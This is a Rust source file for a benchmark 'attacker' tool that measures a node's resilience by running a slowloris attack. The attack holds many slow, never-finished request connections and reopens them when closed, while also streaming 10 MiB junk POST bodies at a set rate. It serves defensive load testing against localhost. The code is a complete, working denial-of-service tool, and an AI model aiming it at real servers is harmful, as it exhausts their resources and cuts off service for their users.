//! The resource attacker of `make bench-node` (Byzantine nodes, attack 3): what one host can
//! throw at a node without valid requests, at a fixed connection count and byte rate.
//!
//! `attacker --addr 127.0.0.1:22300 [--seconds 10] [--slowloris 1000] [--bodies 4]
//!  [--body-mib-per-s 40]`
//!
//! - `--slowloris N`: N connections, each sending a request head one header line at a time,
//!   a line every 2 s, and never finishing it; a connection the node closes is opened again,
//!   so N are held throughout.
//! - `--bodies M`: M connections streaming 10 MiB onion bodies (junk, so the node reads them
//!   whole and refuses them) at `--body-mib-per-s` in all, again and again.
//!
//! Prints what it held and sent, and `BENCH` lines: `attack.slowloris` (connections held,
//! the mean over the run), `attack.body_mib_per_s` (bytes the node accepted from it).
// Real time is what an attacker spends.
#![allow(clippy::disallowed_methods)]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

struct Args {
    addr: String,
    seconds: u64,
    slowloris: usize,
    bodies: usize,
    body_mib_per_s: f64,
}

fn args() -> Args {
    let mut a = Args {
        addr: "127.0.0.1:22300".into(),
        seconds: 10,
        slowloris: 1000,
        bodies: 4,
        body_mib_per_s: 40.0,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let value = it.next().expect("every flag takes a value");
        match flag.as_str() {
            "--addr" => a.addr = value,
            "--seconds" => a.seconds = value.parse().expect("--seconds N"),
            "--slowloris" => a.slowloris = value.parse().expect("--slowloris N"),
            "--bodies" => a.bodies = value.parse().expect("--bodies N"),
            "--body-mib-per-s" => a.body_mib_per_s = value.parse().expect("--body-mib-per-s X"),
            other => panic!("unknown flag {other}"),
        }
    }
    a
}

fn bench_line(key: &str, value: f64, unit: &str) {
    println!(
        "BENCH {}",
        serde_json::json!({ "key": key, "value": value, "unit": unit })
    );
}

/// Holds one slowloris connection until `end`, reopening it whenever the node closes it.
async fn slowloris(addr: String, end: Instant, held: Arc<AtomicUsize>, reopened: Arc<AtomicU64>) {
    while Instant::now() < end {
        let Ok(mut s) = TcpStream::connect(&addr).await else {
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        };
        held.fetch_add(1, Ordering::Relaxed);
        let _ = s
            .write_all(b"POST /storage_rpc/v1 HTTP/1.1\r\nHost: n\r\n")
            .await;
        let mut n = 0u64;
        let mut buf = [0u8; 256];
        while Instant::now() < end {
            // A header line every 2 s; the node's answer (or close) ends this connection.
            let line = format!("x-slow-{n}: {n}\r\n");
            n += 1;
            tokio::select! {
                r = s.read(&mut buf) => { if matches!(r, Ok(0) | Err(_)) { break; } }
                () = tokio::time::sleep(Duration::from_secs(2)) => {
                    if s.write_all(line.as_bytes()).await.is_err() { break; }
                }
            }
        }
        held.fetch_sub(1, Ordering::Relaxed);
        reopened.fetch_add(1, Ordering::Relaxed);
    }
}

/// Streams 10 MiB junk onion bodies at `rate` bytes/s until `end`; counts what was taken.
async fn big_bodies(addr: String, end: Instant, rate: f64, sent: Arc<AtomicU64>) {
    const BODY: usize = 10 * 1024 * 1024;
    const CHUNK: usize = 64 * 1024;
    let chunk = vec![0x5au8; CHUNK];
    let pause = Duration::from_secs_f64(CHUNK as f64 / rate);
    while Instant::now() < end {
        let Ok(mut s) = TcpStream::connect(&addr).await else {
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        };
        let head = format!(
            "POST /onion_req/v2 HTTP/1.1\r\nHost: n\r\nContent-Length: {BODY}\r\nConnection: close\r\n\r\n"
        );
        if s.write_all(head.as_bytes()).await.is_err() {
            continue;
        }
        let mut written = 0;
        let mut next = Instant::now();
        while written < BODY && Instant::now() < end {
            if s.write_all(&chunk).await.is_err() {
                break;
            }
            written += CHUNK;
            sent.fetch_add(CHUNK as u64, Ordering::Relaxed);
            next += pause;
            tokio::time::sleep_until(next.into()).await;
        }
        let mut sink = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(2), s.read_to_end(&mut sink)).await;
    }
}

#[tokio::main]
async fn main() {
    let a = args();
    println!(
        "attacker: {} slowloris connections, {} streams of 10 MiB bodies at {} MiB/s in all, {} s, at {}",
        a.slowloris, a.bodies, a.body_mib_per_s, a.seconds, a.addr
    );
    let start = Instant::now();
    let end = start + Duration::from_secs(a.seconds);
    let held = Arc::new(AtomicUsize::new(0));
    let reopened = Arc::new(AtomicU64::new(0));
    let sent = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for _ in 0..a.slowloris {
        tasks.push(tokio::spawn(slowloris(
            a.addr.clone(),
            end,
            held.clone(),
            reopened.clone(),
        )));
    }
    let per_stream = a.body_mib_per_s * 1024.0 * 1024.0 / a.bodies.max(1) as f64;
    for _ in 0..a.bodies {
        tasks.push(tokio::spawn(big_bodies(
            a.addr.clone(),
            end,
            per_stream,
            sent.clone(),
        )));
    }
    // The mean number of connections held, sampled every 100 ms.
    let (mut samples, mut sum) = (0u64, 0u64);
    while Instant::now() < end {
        tokio::time::sleep(Duration::from_millis(100)).await;
        samples += 1;
        sum += held.load(Ordering::Relaxed) as u64;
    }
    for t in tasks {
        let _ = t.await;
    }
    let secs = start.elapsed().as_secs_f64();
    let mean_held = sum as f64 / samples.max(1) as f64;
    let mib_per_s = sent.load(Ordering::Relaxed) as f64 / (1024.0 * 1024.0) / secs;
    println!(
        "attacker: held {mean_held:.0} slowloris connections on average ({} reopened after the node closed them), sent {mib_per_s:.1} MiB/s of body",
        reopened.load(Ordering::Relaxed)
    );
    bench_line("attack.slowloris", mean_held, "connections");
    bench_line("attack.body_mib_per_s", mib_per_s, "MiB/s");
}
